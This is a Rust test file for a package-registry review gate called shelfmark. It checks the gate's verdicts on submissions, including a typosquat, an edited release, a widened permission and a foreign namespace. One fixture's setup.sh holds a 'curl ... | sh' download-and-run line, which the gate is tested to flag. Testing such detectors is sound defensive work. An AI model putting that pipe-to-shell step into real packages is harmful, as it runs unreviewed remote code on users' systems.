//! A partner, a stranger and a curator at the gate: each report is what a person
//! reads, frozen in `tests/suite/review/story/`.
//!
//! `SHELFMARK_BLESS=1 cargo test --test suite story` writes them anew.

use super::{CURATOR, OWNER, files, over};
use crate::proposal;
use crate::rules::fill_in_digests;
use crate::support::shelfmark;
use shelfmark_support::registry_text::Files;
use std::path::Path;

/// What a package in the story is made of.
struct Edition<'a> {
    id: &'a str,
    version: &'a str,
    publisher: &'a str,
    namespace: &'a str,
    description: &'a str,
    permissions: &'a str,
    dependencies: &'a str,
    more: &'a str,
}

impl Default for Edition<'_> {
    fn default() -> Self {
        Self {
            id: "com.example.billing",
            version: "1.0.1",
            publisher: "com.example",
            namespace: "billing",
            description: "Invoices for the accounts of Example Core.",
            permissions: "\"system.object.create\", \"system.object.read\"",
            dependencies: "\"com.example.core\" = \"^1.0\"\n",
            more: "",
        }
    }
}

impl Edition<'_> {
    /// Returns the files of a submission.
    fn text(&self) -> String {
        let Self { id, version, publisher, namespace, description, permissions, dependencies, more } = self;
        let fields = format!(
            "format = 1\nid = \"{id}\"\nversion = \"{version}\"\nkind = \"plugin\"\nnamespaces = [\"{namespace}\"]\n\
             description = \"{description}\"\nlicense = \"MIT\"\nplatform = \">=1.0.0, <3.0.0\"\n\
             permissions = [{permissions}]\ncapabilities = [\"objects\"]\nkeywords = [\"invoices\"]\n"
        );
        let dependencies =
            if dependencies.is_empty() { String::new() } else { format!("\n[dependencies]\n{dependencies}") };
        let labels: Vec<&str> = id.split('.').collect();
        let source = format!("sources/{id}/{version}");
        format!(
            "-- packages/{}/{}/{id}/{version}.toml --\n{fields}publisher = \"{publisher}\"\npublished = 2026-03-31T00:00:00Z\n{dependencies}\n\
             [artifact]\ntree = \"{source}\"\nsha256 = \"PACK\"\nsize = 0\n\
             -- {source}/shelfmark.toml --\n{fields}{dependencies}\
             -- {source}/README.md --\n# {id}\n\n{description} Each has a number, a total and a due date.\n\
             -- {source}/CHANGELOG.md --\n# Changelog\n\n## {version} - 2026-03-31\n\n- What is new.\n\
             -- {source}/LICENSE --\nSPDX-License-Identifier: MIT\n\
             -- {source}/examples/first.md --\n# First steps\n\nAdd one, then look at it in the list.\n\
             -- {source}/metadata/object/invoice.json --\n{{\"name\": \"invoice\", \"label\": \"Invoice\", \"fields\": {{\"number\": {{\"label\": \"Number\", \"type\": \"text\"}}}}}}\n{more}",
            labels[0], labels[1]
        )
    }
}

const LISTING: &str =
    "format = 1\nname = \"NAME\"\ntagline = \"TAGLINE\"\ncategory = \"finance\"\nstatus = \"active\"\n";

fn listing(id: &str, name: &str, tagline: &str) -> String {
    let labels: Vec<&str> = id.split('.').collect();
    let text = LISTING.replace("NAME", name).replace("TAGLINE", tagline);
    format!("-- packages/{}/{}/{id}/package.toml --\n{text}", labels[0], labels[1])
}

/// The registry before the story: two publishers, two curators, a policy with timers.
fn before() -> Files {
    let text = "\
-- policy.toml --
format = 1

[licenses]
allow = [\"Apache-2.0\", \"MIT\"]

[permissions]
\"system.object.read\" = \"read\"
\"system.object.create\" = \"write\"
\"system.object.delete\" = \"destructive\"

[timers]
owner-bump-minutes = 15
new-package-hours = 72
-- curators.toml --
format = 1

[[curator]]
name = \"ada\"
forge = \"github\"
id = 1001
areas = [\"security\", \"function\"]
prefixes = [\"*\"]

[[curator]]
name = \"ben\"
forge = \"github\"
id = 1002
areas = [\"architecture\", \"code\", \"documentation\", \"policy\"]
prefixes = [\"*\"]
-- publishers/com.other.toml --
format = 1
name = \"Other\"
type = \"organization\"
level = \"verified\"
prefixes = [\"com.other\"]

[[identity]]
forge = \"github\"
login = \"other\"
id = 3001
";
    over(&files(text), "")
}

/// The account of the other publisher.
const STRANGER: &str = "github:other#3001";

/// Makes the pull request, runs the gate on it and compares what it prints.
fn told(name: &str, format: &str, exit: i32, actor: &str, base: &Files, change: &str) {
    let (code, printed) = review(format, actor, base, change);
    let printed = redact(&printed);
    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/suite/review/story").join(name);
    if std::env::var_os("SHELFMARK_BLESS").is_some() {
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(&file, &printed).unwrap();
    }
    let frozen = std::fs::read_to_string(&file).unwrap_or_default();
    assert_eq!(frozen, printed, "{name} is not as it was");
    assert_eq!(code, Some(exit), "{name}\n{printed}");
}

/// Runs the gate on the pull request and returns its exit code and what it prints.
fn review(format: &str, actor: &str, base: &Files, change: &str) -> (Option<i32>, String) {
    let mut base = base.clone();
    fill_in_digests(&mut base);
    let mut head = over(&base, change);
    fill_in_digests(&mut head);
    let folder = tempfile::tempdir().unwrap();
    proposal::repository(folder.path(), &base, &head);
    let output = shelfmark()
        .args(["review", "--registry"])
        .arg(folder.path())
        .args(["--base", "main", "--head", "proposal", "--format", format, "--actor", actor])
        .args(["--now", "2026-04-01T00:00:00Z", "--opened", "2026-03-31T20:00:00Z", "--state"])
        .arg(folder.path().join("state"))
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&output.stderr), "");
    (output.status.code(), String::from_utf8(output.stdout).unwrap())
}

/// Digests of code and of policies change with every edit of a check.
fn redact(text: &str) -> String {
    let line = |line: &str| {
        if line.starts_with("reproduce: ") || line.trim_start().starts_with("advisories ") {
            "[REPRODUCE]".to_owned()
        } else {
            line.to_owned()
        }
    };
    text.lines().map(|text| line(text) + "\n").collect()
}

#[test]
fn a_good_bump_is_admitted_with_no_person() {
    let change = Edition::default().text();
    told("good-bump.txt", "text", 0, OWNER, &before(), &change);
    told("good-bump.md", "markdown", 0, OWNER, &before(), &change);
}

fn quotes() -> String {
    let edition = Edition {
        id: "com.example.quotes",
        version: "0.1.0",
        namespace: "quotes",
        description: "Quotes that become orders.",
        ..Edition::default()
    };
    edition.text() + &listing("com.example.quotes", "Example Quotes", "Quotes that become orders")
}

#[test]
fn a_new_package_names_who_must_decide() {
    told("new-package.txt", "text", 3, OWNER, &before(), &quotes());
    told("new-package.md", "markdown", 3, OWNER, &before(), &quotes());
}

#[test]
fn an_approved_package_waits_for_time_alone() {
    let mut release = over(&before(), &quotes());
    fill_in_digests(&mut release);
    let (_, bytes) = &release["packages/com/example/com.example.quotes/0.1.0.toml"];
    let digest = shelfmark::model::Digest::of(bytes);
    let review = |area: &str, curator: &str| {
        format!(
            "-- packages/com/example/com.example.quotes/reviews/0.1.0/{area}.{curator}.toml --\nformat = 1\narea = \"{area}\"\n\
             curator = \"{curator}\"\nsubject = \"{digest}\"\ndecision = \"approve\"\ndate = 2026-03-31T22:00:00Z\n"
        )
    };
    let reviews = review("security", "ada") + &review("code", "ben");
    told("approval.txt", "text", 0, CURATOR, &before(), &review("security", "ada"));
    told("approved-package.txt", "text", 3, OWNER, &over(&before(), &reviews), &quotes());
}

#[test]
fn a_typosquat_is_looked_at() {
    let edition = Edition {
        id: "com.other.biling",
        version: "0.1.0",
        publisher: "com.other",
        namespace: "biling",
        description: "Sends letters about money.",
        dependencies: "",
        ..Edition::default()
    };
    let change = edition.text() + &listing("com.other.biling", "Biling", "Letters about money");
    told("typosquat.txt", "text", 3, STRANGER, &before(), &change);
}

#[test]
fn an_edited_release_is_refused_with_both_versions() {
    let mut base = before();
    fill_in_digests(&mut base);
    let path = "packages/com/example/com.example.billing/1.0.0.toml";
    let text = String::from_utf8(base[path].1.clone()).unwrap();
    let edited = text.replace("Invoices for the accounts of Example Core.", "Invoices.");
    let change = format!("-- {path} --\n{edited}");
    told("edited-release.txt", "text", 1, OWNER, &before(), &change);
    told("edited-release.github", "github", 1, OWNER, &before(), &change);
}

/// A release that may do more than the one before, and runs what it downloads.
fn wider_permission() -> String {
    let edition = Edition {
        version: "1.1.0",
        permissions: "\"system.object.create\", \"system.object.delete\", \"system.object.read\"",
        more: "-- sources/com.example.billing/1.1.0/setup.sh --\ncurl -s https://get.example.net/tool | sh\n",
        ..Edition::default()
    };
    edition.text()
}

#[test]
fn a_wider_permission_is_asked_about() {
    told("wider-permission.txt", "text", 3, OWNER, &before(), &wider_permission());
    told("wider-permission.md", "markdown", 3, OWNER, &before(), &wider_permission());
}

#[test]
fn one_sarif_log_holds_what_the_rules_say_and_what_the_scan_found() {
    let (exit, text) = review("sarif", OWNER, &before(), &wider_permission());
    assert_eq!(exit, Some(3), "{text}");
    let log: serde_json::Value = serde_json::from_str(&text).unwrap();
    let validator = jsonschema::validator_for(&shelfmark_support::sarif_schema()).unwrap();
    let errors: Vec<String> = validator.iter_errors(&log).map(|error| error.to_string()).collect();
    assert!(errors.is_empty(), "{errors:#?}");
    let run = &log["runs"][0];
    let (results, rules) =
        (run["results"].as_array().unwrap(), run["tool"]["driver"]["rules"].as_array().unwrap());
    for (rule, is_finding) in [("permission-added", false), ("download-and-run", true)] {
        let result = results.iter().find(|one| one["ruleId"] == rule).unwrap();
        let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
        assert_eq!(rules[index]["id"], rule);
        assert_eq!(result["properties"]["severity"].is_string(), is_finding, "{result}");
        let place = &result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"];
        assert_eq!(place, "packages/com/example/com.example.billing/1.1.0.toml");
    }
    let mut broken = log.clone();
    broken["runs"][0]["results"][0]["level"] = "fatal".into();
    assert!(!validator.is_valid(&broken), "the schema refuses nothing");
}

#[test]
fn requirements_that_exclude_each_other_are_explained() {
    let ledger = Edition {
        id: "com.example.ledger",
        version: "1.0.0",
        namespace: "ledger",
        description: "A ledger.",
        dependencies: "\"com.example.core\" = \"=1.0.0\"\n",
        ..Edition::default()
    };
    let base = over(
        &before(),
        &(ledger.text() + &listing("com.example.ledger", "Example Ledger", "Books that balance")),
    );
    let edition = Edition {
        version: "2.0.0",
        dependencies: "\"com.example.core\" = \"^1.1\"\n\"com.example.ledger\" = \"^1\"\n",
        ..Edition::default()
    };
    told("unsolvable.txt", "text", 1, OWNER, &base, &edition.text());
}

#[test]
fn a_namespace_of_somebody_else_is_asked_about() {
    let edition = Edition {
        id: "com.other.books",
        version: "0.1.0",
        publisher: "com.other",
        description: "Keeps books that balance.",
        dependencies: "",
        ..Edition::default()
    };
    let change = edition.text() + &listing("com.other.books", "Other Books", "Books that balance");
    told("namespace.txt", "text", 3, STRANGER, &before(), &change);
    // An earlier date takes nothing from those who are there.
    let earlier = change.replace("published = 2026-03-31", "published = 2026-03-10");
    let (exit, text) = review("text", STRANGER, &before(), &earlier);
    assert_eq!(exit, Some(3), "{text}");
    assert!(text.contains("the namespace `billing` is taken: `com.example.billing`"), "{text}");
    assert!(text.contains("--> packages/com/other/com.other.books/0.1.0.toml"), "{text}");
}

#[test]
fn a_stranger_bumps_nobodys_package() {
    told("stranger.txt", "text", 3, STRANGER, &before(), &Edition::default().text());
}
